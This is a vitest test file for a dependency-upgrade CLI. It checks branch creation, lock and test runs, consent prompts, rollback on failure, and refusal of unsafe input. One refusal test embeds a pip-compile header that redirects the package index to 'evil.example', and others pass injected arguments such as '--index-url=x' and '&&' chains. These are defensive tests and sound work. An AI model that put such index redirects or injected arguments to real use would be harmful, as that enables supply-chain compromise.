import { readFileSync } from 'node:fs';
import path from 'node:path';

import { afterAll, describe, expect, test } from 'vitest';

import { removeTemporaryFolders } from '../../../../host-node/src/testing/temporary-repository.ts';
import { runMain } from '../../testing/run-main.ts';
import {
  LOCK_POLICY,
  lockText,
  PROGRAMS,
  UPGRADE_FILES,
  upgradeSample,
  type UpgradeSample,
} from '../../testing/upgrade-sample.ts';

afterAll(removeTemporaryFolders);

function upgrade({ repository, env }: UpgradeSample, ...args: readonly string[]) {
  return runMain(['deps', 'upgrade', ...args], { cwd: repository.root, env });
}

const BRANCH = /^auto\/dependency-upgrade-\d{8}-001$/;
const FILES = Object.keys(UPGRADE_FILES);

/** That an upgrade left no trace. */
function expectUntouched(
  { repository, branches, read }: UpgradeSample,
  files: Readonly<Record<string, string>>,
) {
  expect(branches()).toEqual(['*main']);
  expect(repository.git('status', '--porcelain')).toBe('');
  expect(Object.fromEntries(Object.keys(files).map((file) => [file, read(file)]))).toEqual(files);
}

/** The name of the branch that is checked out. */
function current({ repository }: UpgradeSample): string {
  return repository.git('branch', '--show-current');
}

describe('deps upgrade --start', () => {
  test('[row 2.01] makes the branch, runs lock command and tests, and commits the result', async () => {
    const sample = upgradeSample(UPGRADE_FILES);
    const { exitCode, stdout, stderr } = await upgrade(sample, '--start', '--yes');
    expect({ exitCode, stderr }).toMatchObject({ exitCode: 0 });
    expect(sample.calls()).toEqual([
      'backend: pip-compile --output-file=requirements.txt requirements.in --upgrade',
      `${path.basename(sample.repository.root)}: run-tests --all`,
    ]);
    expect(current(sample)).toMatch(BRANCH);
    expect(sample.repository.git('status', '--porcelain')).toBe('');
    expect(sample.repository.git('log', '-1', '--format=%B')).toBe('Upgrade httpx from 0.27.0 to 0.28.1');
    expect(sample.repository.git('rev-parse', 'HEAD~')).toBe(sample.repository.git('rev-parse', 'main'));
    expect(stdout).toContain('| httpx | 0.27.0 | 0.28.1 | minor |');
    expect(stdout).toContain('needs the label `approved-dependency-upgrade`');
    expect(stdout).toContain('Passed: `run-tests --all`');
    expect(stderr).toContain(`Nothing was pushed. Next:\n  git push -u origin ${current(sample)}\n`);
  });

  test('[row 2.01] a second upgrade of the day has the next number', async () => {
    const sample = upgradeSample(UPGRADE_FILES);
    await upgrade(sample, '--start', '--yes');
    const first = current(sample);
    sample.repository.git('switch', '-q', 'main');
    await upgrade(sample, '--start', '--yes');
    expect(current(sample)).toBe(first.replace(/001$/, '002'));
  });

  test('[row 2.01] pins in the source are rewritten in both files, and no program runs', async () => {
    const text = LOCK_POLICY.replace(/sync: .*/, 'sync: { mode: textual }');
    const pins = '# web\nhttpx==0.27.0\nanyio==4.3.0\n';
    const files = {
      'lockkeeper.yaml': text,
      'backend/requirements.in': pins,
      'backend/requirements.txt': pins,
    };
    const sample = upgradeSample({ ...UPGRADE_FILES, ...files });
    const packages = ['--package', 'httpx==0.28.1', '--package', 'AnyIO==4.7.0'];
    const { exitCode, stdout } = await upgrade(sample, '--start', '--no-test', ...packages);
    expect({ exitCode, calls: sample.calls() }).toEqual({ exitCode: 0, calls: [] });
    for (const file of ['backend/requirements.in', 'backend/requirements.txt']) {
      expect(sample.read(file)).toBe('# web\nhttpx==0.28.1\nanyio==4.7.0\n');
    }
    expect(sample.repository.git('show', '--format=%B', '--name-only', 'HEAD')).toBe(
      'Upgrade 2 dependencies of backend\n\n- Upgrade anyio from 4.3.0 to 4.7.0\n- Upgrade httpx from 0.27.0 to 0.28.1\n\n\nbackend/requirements.in\nbackend/requirements.txt',
    );
    expect(stdout).toContain('Not run: the upgrade was started with `--no-test`.');
  });

  test('writes the text of the pull request to a file', async () => {
    const sample = upgradeSample({ ...UPGRADE_FILES, '.gitignore': 'upgrade.md\n' });
    const { stdout, stderr } = await upgrade(sample, '--start', '--yes', '--output', 'upgrade.md');
    expect(stdout).toBe('');
    expect(sample.read('upgrade.md')).toMatch(/^## Dependency upgrade of backend\n/);
    expect(stderr).toContain('Wrote the text of the pull request to upgrade.md.');
    expect(stderr).toContain('--body-file upgrade.md\n');
  });

  test('runs the commands that are given in place of those it finds', async () => {
    const programs = {
      ...PROGRAMS,
      lockit: `fs.writeFileSync('backend/requirements.txt', ${JSON.stringify(lockText('0.29.0'))});`,
    };
    const sample = upgradeSample(UPGRADE_FILES, programs);
    const args = ['--command', 'lockit "a b"', '--test', 'run-tests -q'];
    expect(await upgrade(sample, '--start', '--yes', ...args)).toMatchObject({ exitCode: 0 });
    const root = path.basename(sample.repository.root);
    expect(sample.calls()).toEqual([`${root}: lockit a b`, `${root}: run-tests -q`]);
  });

  test('ends well where nothing is newer', async () => {
    const sample = upgradeSample(UPGRADE_FILES, { ...PROGRAMS, 'pip-compile': '' });
    const { exitCode, stdout, stderr } = await upgrade(sample, '--start', '--yes');
    expect({ exitCode, stdout }).toEqual({ exitCode: 0, stdout: '' });
    expect(stderr).toContain('Every package is at its newest available version: nothing changed.');
    expectUntouched(sample, UPGRADE_FILES);
  });
});

describe('consent', () => {
  test('without a terminal and without --yes nothing is changed', async () => {
    const sample = upgradeSample(UPGRADE_FILES);
    const { exitCode, stdout, stderr } = await upgrade(sample, '--start');
    expect({ exitCode, stdout, calls: sample.calls() }).toEqual({ exitCode: 2, stdout: '', calls: [] });
    expect(stderr).toContain(
      'run `pip-compile --output-file=requirements.txt requirements.in --upgrade` in backend.',
    );
    expect(stderr).toMatch(
      /Nobody can be asked here, because this is no terminal\. Add --yes to run these commands\.\nNothing was changed\.\n$/,
    );
    expectUntouched(sample, UPGRADE_FILES);
  });

  test.each([
    ['y\n', 0],
    [' YES\n', 0],
    ['\n', 2],
    ['n\n', 2],
    ['yesterday\n', 2],
    ['', 2],
  ])('the answer %j at a terminal ends with %i', async (input, exitCode) => {
    const sample = upgradeSample(UPGRADE_FILES);
    const { root } = sample.repository;
    const given = { cwd: root, env: sample.env, input, isTyped: true, terminal: 80 };
    const run = await runMain(['deps', 'upgrade', '--start'], given);
    expect(run.exitCode).toBe(exitCode);
    expect(run.stderr).toContain('Run these commands? [y/N] ');
    if (exitCode !== 0) expectUntouched(sample, UPGRADE_FILES);
  });

  test.each([[['--dry-run']], [['--start', '--dry-run', '--yes']], [[]]])(
    'with %j the plan is shown and nothing is done',
    async (args) => {
      const sample = upgradeSample(UPGRADE_FILES);
      const { exitCode, stdout } = await upgrade(sample, ...args);
      expect({ exitCode, calls: sample.calls() }).toEqual({ exitCode: 0, calls: [] });
      expect(stdout).toContain('2. Make the lock: run `pip-compile');
      expect(stdout.includes('Nothing was done. Add --start to do it.')).toBe(args.length === 0);
      expectUntouched(sample, UPGRADE_FILES);
    },
  );
});

describe('an upgrade that fails', () => {
  const BREAK = `fs.writeFileSync('requirements.txt', 'broken'); fs.appendFileSync('requirements.in', 'x');`;

  test.each([
    ['tests that fail', { 'run-tests': `console.log('E  boom'); process.exitCode = 1;` }, 1, 'E  boom'],
    [
      'a lock command that fails',
      { 'pip-compile': `${BREAK} console.error('no such version'); process.exitCode = 2;` },
      3,
      'no such version',
    ],
    [
      'a lock command that breaks the lock',
      {
        'pip-compile': `fs.writeFileSync('requirements.txt', ${JSON.stringify(`${lockText('0.28.1')}idna>=3\n`)});`,
      },
      1,
      'idna',
    ],
    [
      'a lock command that takes the lock away',
      { 'pip-compile': `fs.rmSync('requirements.txt');` },
      3,
      'one of the files is gone',
    ],
    [
      'a lock command that writes no text',
      { 'pip-compile': `fs.writeFileSync('requirements.txt', Buffer.from([0, 255, 0]));` },
      3,
      'cannot be read as text',
    ],
  ])('because of %s is taken back', async (...[, broken, exitCode, said]) => {
    const sample = upgradeSample(UPGRADE_FILES, { ...PROGRAMS, ...broken });
    const run = await upgrade(sample, '--start', '--yes');
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(said);
    expect(run.stderr).toMatch(/are as before, main is checked out, and the branch \S+ is gone\.\n$/);
    expect(run.exitCode).toBe(exitCode);
    expectUntouched(sample, UPGRADE_FILES);
  });

  test('because the program is missing is a technical error', async () => {
    const sample = upgradeSample(UPGRADE_FILES, { 'run-tests': PROGRAMS['run-tests'] });
    const env = { PATH: (sample.env['PATH'] ?? '').split(path.delimiter)[0] ?? '' };
    const run = await runMain(['deps', 'upgrade', '--start', '--yes'], { cwd: sample.repository.root, env });
    expect(run.stderr).toContain('could not be run: pip-compile is not installed or not on the PATH.');
    expect(run.exitCode).toBe(3);
    expectUntouched(sample, UPGRADE_FILES);
  });

  test('with --keep stays for looking at', async () => {
    const failing = { ...PROGRAMS, 'run-tests': 'process.exitCode = 1;' };
    const sample = upgradeSample(UPGRADE_FILES, failing);
    const { exitCode, stderr } = await upgrade(sample, '--start', '--yes', '--keep');
    expect(exitCode).toBe(1);
    expect(current(sample)).toMatch(BRANCH);
    expect(sample.read('backend/requirements.txt')).toBe(lockText('0.28.1'));
    expect(stderr).toContain('  git switch main\n');
    const again = await upgrade(sample, '--start', '--yes');
    expect(again.stderr).toContain('It looks like an upgrade that was cut off.');
  });

  test('leaves what the tests wrote beside the files, and the commit without it', async () => {
    const programs = { ...PROGRAMS, 'run-tests': `fs.writeFileSync('coverage.xml', 'x');` };
    const sample = upgradeSample(UPGRADE_FILES, programs);
    expect((await upgrade(sample, '--start', '--yes')).exitCode).toBe(0);
    expect(sample.repository.git('status', '--porcelain')).toBe('?? coverage.xml');
  });
});

describe('an upgrade that is refused', () => {
  test.each([
    [
      'a changed file',
      (sample: UpgradeSample) => sample.repository.write('notes.md', 'x'),
      /^The worktree is not clean: notes\.md is changed or new\./,
    ],
    [
      'a detached HEAD',
      (sample: UpgradeSample) => void sample.repository.git('switch', '-q', '--detach'),
      /^No branch is checked out \(detached HEAD\)\./,
    ],
    [
      'no policy',
      (sample: UpgradeSample) => void sample.repository.git('rm', '-q', 'lockkeeper.yaml'),
      /^No policy was found in /,
    ],
    [
      'a lock that is ignored',
      (sample: UpgradeSample) => {
        sample.repository.git('rm', '-q', '--cached', 'backend/requirements.txt');
        sample.repository.write('.gitignore', 'backend/requirements.txt\n');
        sample.repository.git('add', '.gitignore');
        sample.repository.git('commit', '-q', '-m', 'x');
      },
      /^backend\/requirements\.txt is not committed\./,
    ],
  ])('because of %s', async (_, prepare, message) => {
    const sample = upgradeSample(UPGRADE_FILES);
    prepare(sample);
    const { exitCode, stderr, stdout } = await upgrade(sample, '--start', '--yes');
    expect({ exitCode, stdout, calls: sample.calls() }).toEqual({ exitCode: 2, stdout: '', calls: [] });
    expect(stderr).toMatch(message);
  });

  test('because of a command in the header that could do anything', async () => {
    const evil =
      'pip-compile --pip-args="--index-url https://evil.example" --output-file=requirements.txt requirements.in';
    const files = { ...UPGRADE_FILES, 'backend/requirements.txt': lockText('0.27.0', evil) };
    const sample = upgradeSample(files);
    const { exitCode, stderr } = await upgrade(sample, '--start', '--yes');
    expect(exitCode).toBe(2);
    expect(stderr).toContain("'--pip-args=--index-url https://evil.example'");
    expect(stderr).toContain(
      'which is not run because the option --pip-args is not one that is known to be harmless.',
    );
    expect(sample.calls()).toEqual([]);
  });

  test.each([
    [['--package', '--index-url=x'], /--package "--index-url=x" is not valid\./],
    [
      ['--command', 'a && b'],
      /The command of --command cannot be run: no shell reads it, and && is for a shell\./,
    ],
    [['--test', '"a'], /The command of --test cannot be run: a quote in it is not closed\./],
    [['--pair', 'none'], /names no pair none\. It names: backend\./],
    [['--output'], /argument missing/],
  ])('because of %j', async (args, message) => {
    const sample = upgradeSample(UPGRADE_FILES);
    const { exitCode, stderr } = await upgrade(sample, '--start', '--yes', ...args);
    expect(exitCode).toBe(2);
    expect(stderr).toMatch(message);
    expectUntouched(sample, UPGRADE_FILES);
  });
});

test('the sample is what a checkout holds', () => {
  const { repository } = upgradeSample(UPGRADE_FILES);
  expect(repository.git('ls-files').split('\n')).toEqual([...FILES].sort());
  expect(readFileSync(path.join(repository.root, 'lockkeeper.yaml'), 'utf8')).toBe(LOCK_POLICY);
});
